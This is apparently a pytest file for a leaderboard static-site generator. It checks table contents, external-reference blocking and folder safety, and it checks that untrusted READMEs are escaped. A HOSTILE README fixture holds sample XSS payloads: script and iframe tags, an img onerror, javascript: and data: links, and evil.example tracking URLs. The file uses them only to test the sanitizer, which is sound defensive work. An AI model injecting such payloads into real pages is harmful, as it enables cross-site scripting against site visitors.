"""``leaderboard site``: the static site of the committed leaderboards (no browser needed here).

The site must show the numbers ``leaderboard show`` prints, the headline tables ``reproduce
--from-results`` computes, load nothing from outside its folder, and render untrusted READMEs
without passing markup or ``javascript:`` links through.
"""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from llmsched_gym.errors import ConfigError
from llmsched_gym.leaderboard.cli import leaderboards_root
from llmsched_gym.leaderboard.site import write_site
from llmsched_gym.leaderboard.site_timeline import (
    LANES,
    WINDOW_S,
    default_workload,
    timeline_pages,
    timeline_stem,
)
from llmsched_gym.leaderboard.site_markdown import link_kind, render_markdown
from llmsched_gym.leaderboard.suite import load_suite

ROOT = leaderboards_root()


class _Tables(HTMLParser):
    """Every table of a page: its id and rows of cell texts (header row first)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tables: dict[str, list[list[str]]] = {}
        self._rows: list[list[str]] | None = None
        self._cell: list[str] | None = None
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self._rows = self.tables.setdefault(dict(attrs).get("id") or str(len(self.tables)), [])
        elif tag == "tr" and self._rows is not None:
            self._rows.append([])
        elif tag in ("td", "th") and self._rows is not None:
            self._cell = []
        elif tag in ("svg", "title"):
            self._skip += 1

    def handle_endtag(self, tag):
        if tag == "table":
            self._rows = None
        elif tag in ("td", "th") and self._cell is not None and self._rows is not None:
            self._rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag in ("svg", "title"):
            self._skip -= 1

    def handle_data(self, data):
        if self._cell is not None and not self._skip:
            self._cell.append(data)


def tables(path: Path) -> dict[str, list[list[str]]]:
    parser = _Tables()
    parser.feed(path.read_text())
    return parser.tables


def md_rows(text: str, first: str) -> list[list[str]]:
    """The rows of the Markdown table whose header starts with ``| first |`` (header first)."""
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(f"| {first} |"))
    rows = []
    for line in [lines[start]] + lines[start + 2 :]:
        if not line.startswith("|"):
            break
        cells = re.split(r"(?<!\\)\|", line.strip()[1:-1])
        rows.append([" ".join(c.replace("\\|", "|").split()) for c in cells])
    return rows


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    suite = load_suite("llmsched-v2")
    out = tmp_path_factory.mktemp("site") / "site"
    return write_site(ROOT, suite, out, [timeline_pages()]), suite


def test_every_task_submission_and_paper_has_a_page(site):
    out, _ = site
    names = {p.name for p in out.glob("*.html")}
    for task in ("priority", "select", "preempt", "batchtype", "knob", "route"):
        assert f"task-{task}.html" in names
    subs = sorted(ROOT.glob("*/*/submission.yaml"))
    assert len([n for n in names if n.startswith("sub-")]) == len(subs)
    for paper in ("hexgen", "infermax", "proserve", "relserve"):
        assert f"paper-{paper}.html" in names
    assert {"index.html", "counterfactual.html", "headroom.html"} <= names
    assert (out / "manifest.json").is_file() and any((out / "img").glob("*.png"))


def test_task_tables_show_the_numbers_leaderboard_show_prints(site, tmp_path, capsys):
    from llmsched_gym.leaderboard.validate import show_leaderboards

    out, suite = site
    show_leaderboards(ROOT, None, tmp_path, update=False, suite=suite)
    capsys.readouterr()
    for md in sorted(tmp_path.glob("*.md")):
        shown = md_rows(md.read_text(), "rank")
        page = tables(out / f"task-{md.stem}.html")
        groups = [page[g] for g in ("board-agent", "board-reference", "board-oracle",
                                    "board-failed") if g in page]
        head = groups[0][0]
        assert head[:4] == shown[0][:4] and head[4] == "interval" and head[5:] == shown[0][4:]
        rows = [r[:4] + r[5:] for g in groups for r in g[1:]]  # without the drawn interval
        assert sorted(rows) == sorted(shown[1:]), md.stem
        # the groups keep agents, whole schedulers and oracles apart
        for g, kind in (("board-agent", "agent"), ("board-reference", "reference")):
            assert all(r[2] == kind and r[0] != "—" for r in page.get(g, [[]])[1:])
        assert all("oracle" in r[-1] for r in page.get("board-oracle", [[]])[1:])


def test_per_workload_ratios_are_those_of_per_workload_table(site):
    from llmsched_gym.leaderboard.tables import per_workload_table
    from llmsched_gym.leaderboard.validate import task_boards

    out, suite = site
    for name, tb in task_boards(ROOT, suite).items():
        methods = {r["method"]: tb.methods[r["method"]] for r in tb.board}
        metric = next(iter(methods.values()))[0]["metric"]
        shown = md_rows(per_workload_table(tb.task, methods, metric), "workload")
        page = tables(out / f"task-{name.lower()}.html")["per-workload"]
        assert page[1:] == [[c or "" for c in r] for r in shown[1:]], name
        sub = tb.submissions[0]
        rows = tables(out / _page_of(out, sub.folder))["rows"]
        assert [r[0] for r in rows[1:]] == [r["workload"] for r in tb.methods[sub.method]]


def _page_of(out: Path, folder: Path) -> str:
    name = f"sub-{folder.parent.name}-{re.sub(r'[^a-z0-9]+', '-', folder.name.lower())}.html"
    assert (out / name).is_file()
    return name


def test_paper_headlines_are_those_reproduce_from_results_computes(site):
    from llmsched_gym.leaderboard import experiments as E

    out, _ = site
    for path in sorted(ROOT.glob("*/experiments.yaml")):
        paper = E.load(path)
        expected = md_rows(E.markdown(E.evaluate(paper, paper.results)), "figure")
        shown = tables(out / f"paper-{path.parent.name}.html")["headlines"]
        assert shown == expected, path.parent.name
        plots = list(paper.results.rglob("*.png"))
        assert (out / f"paper-{path.parent.name}.html").read_text().count("<figure>") >= len(
            plots
        )


def test_learning_curve_drawn_for_a_learned_submission(site):
    out, _ = site
    text = (out / "sub-priority-ppo-bc.html").read_text()
    assert 'id="learning-curve"' in text and '<svg class="curve"' in text
    assert "<polyline" in text and 'id="checkpoints"' in text


class _Urls(HTMLParser):
    """Every URL-valued attribute of every element (href, src, action, ...), as parsed."""

    NAMES = {"href", "src", "srcset", "action", "formaction", "poster", "data", "xlink:href"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.urls += [v or "" for k, v in attrs if k in self.NAMES]


def _attributes(text: str) -> list[str]:
    parser = _Urls()
    parser.feed(text)
    return parser.urls


def test_pages_reference_nothing_outside_the_site(site):
    out, _ = site
    for page in out.glob("*.html"):
        text = page.read_text()
        for target in _attributes(text):
            assert link_kind(target) in ("relative", "anchor"), (page.name, target)
            if link_kind(target) == "relative":
                assert (out / target.split("#")[0]).is_file(), (page.name, target)
        assert "url(" not in text and "@import" not in text, page.name
        assert text.count("<script") == 1 and "<script>" in text, page.name
        assert 'http-equiv="Content-Security-Policy"' in text, page.name


HOSTILE = """# Evil <script>alert('h1')</script>

Hello <img src=x onerror="alert(1)"> and <iframe src="https://evil.example/"></iframe>.

[run me](javascript:alert(document.cookie)) [again](JAVASCRIPT:alert(1))
[tabbed](java&#x09;script:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)
[outside](https://evil.example/track.js) [proto](//evil.example/x)
![pixel](https://evil.example/p.png)
[sibling](../vllm-v1) [task](..)

| a | <b onclick="x()">b</b> |
|---|---|
| `<script>` | **<u>bold</u>** |

```html
<script src="https://evil.example/x.js"></script>
```
"""


def test_hostile_readme_is_escaped(tmp_path):
    html = render_markdown(HOSTILE, lambda t: {"../vllm-v1": "sub-x.html"}.get(t))
    assert "<script" not in html and "<img" not in html and "<iframe" not in html
    assert "<b " not in html and "<u>" not in html
    assert "javascript" not in html.lower() and "data:text" not in html
    assert html.count("(link refused)") == 4
    assert "href" not in html.replace('href="sub-x.html"', "")
    assert "external link: <code>https://evil.example/track.js</code>" in html
    assert "external link: <code>//evil.example/x</code>" in html
    assert "&lt;script&gt;" in html and "[image: pixel]" in html


def test_hostile_readme_in_a_built_site(tmp_path):
    root = tmp_path / "leaderboards"
    shutil.copytree(ROOT, root, ignore=shutil.ignore_patterns("*.png"))
    (root / "priority" / "random" / "README.md").write_text(HOSTILE)
    out = write_site(root, load_suite("llmsched-v2"), tmp_path / "site")
    text = (out / "sub-priority-random.html").read_text()
    assert text.count("<script") == 1 and "<iframe" not in text and "<img src=x" not in text
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in text  # shown as text
    assert "javascript:" not in text.lower()
    hrefs = re.findall(r'href="([^"]*)"', text)
    assert "sub-priority-vllm-v1.html" in hrefs and "task-priority.html" in hrefs
    assert all(link_kind(h) == "relative" and (out / h).is_file() for h in hrefs)
    assert "evil.example" not in " ".join(_attributes(text))


def test_refuses_a_folder_it_did_not_write_and_replaces_its_own(tmp_path, capsys):
    from llmsched_gym.cli.main import main

    out = tmp_path / "site"
    assert main(["leaderboard", "site", "--out", str(out)]) == 0
    assert "pages" in capsys.readouterr().out
    (out / "index.html").write_text("stale")
    assert main(["leaderboard", "site", "--out", str(out)]) == 0  # its own: replaced
    assert (out / "index.html").read_text().startswith("<!doctype html>")

    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.html").write_text("my notes")
    with pytest.raises(ConfigError, match="did not write there"):
        write_site(ROOT, load_suite("llmsched-v2"), mine)
    assert (mine / "notes.html").read_text() == "my notes"

    sim = tmp_path / "sim"  # another command's output set: not the site's to replace
    sim.mkdir()
    (sim / "summary.json").write_text("{}")
    (sim / "manifest.json").write_text('{"command": "simulate", "files": ["summary.json"]}')
    with pytest.raises(ConfigError, match="summary.json"):
        write_site(ROOT, load_suite("llmsched-v2"), sim)


def test_extra_pages_plug_in_and_are_linked(tmp_path):
    from llmsched_gym.leaderboard.site import Page, build_site

    def more(site):
        return [Page("notes.html", "Notes", "<h1>Notes</h1><p>an extra page</p>", "more", "x")]

    dest = tmp_path / "site"
    dest.mkdir()
    pages = build_site(ROOT, load_suite("llmsched-v2"), dest, extra=[more])
    assert "notes.html" in pages and (dest / "notes.html").is_file()
    assert 'href="notes.html"' in (dest / "index.html").read_text()
    assert 'href="notes.html"' in (dest / "task-route.html").read_text()  # in the navigation
    with pytest.raises(ConfigError, match="taken"):
        build_site(ROOT, load_suite("llmsched-v2"), tmp_path, extra=[more, more])


def test_the_timeline_page_draws_the_trace_it_ships(site):
    """The page links its whole trace (valid against the schema) and draws, for the first
    ``LANES`` lanes, one rectangle per phase that starts within ``WINDOW_S``."""
    import json

    from llmsched_gym.metrics.timeline import check_trace

    out, suite = site
    stem = timeline_stem(default_workload(suite).id)
    page = (out / f"{stem}.html").read_text()
    trace = json.loads((out / "traces" / f"{stem}.json").read_text())
    check_trace(trace)
    assert f'href="traces/{stem}.json"' in page
    lanes = sorted(
        e["tid"] for e in trace["traceEvents"]
        if e["ph"] == "M" and e["name"] == "thread_name" and e["pid"] == 0 and e["tid"] > 0
    )[:LANES]  # fmt: skip
    phases = [
        e for e in trace["traceEvents"]
        if e["pid"] == 0 and e.get("tid") in lanes and e["ph"] == "X"
        and e.get("cat") in ("waiting", "prefill", "decode", "preempted")
        and e["ts"] < WINDOW_S * 1e6
    ]  # fmt: skip
    drawn = re.findall(r'<rect class="(wait|pre|dec|pmt)"', page)
    assert phases and len(drawn) == len(phases)
    assert {"waiting": "wait", "decode": "dec"}.keys() <= {e["cat"] for e in phases}


def test_an_unknown_timeline_workload_is_named(tmp_path):
    suite = load_suite("llmsched-v2")
    with pytest.raises(ConfigError, match="--timeline-workload 'Priority/nope/x/test/1' is not"):
        write_site(ROOT, suite, tmp_path / "s", [timeline_pages("Priority/nope/x/test/1")])
    assert not (tmp_path / "s").exists()
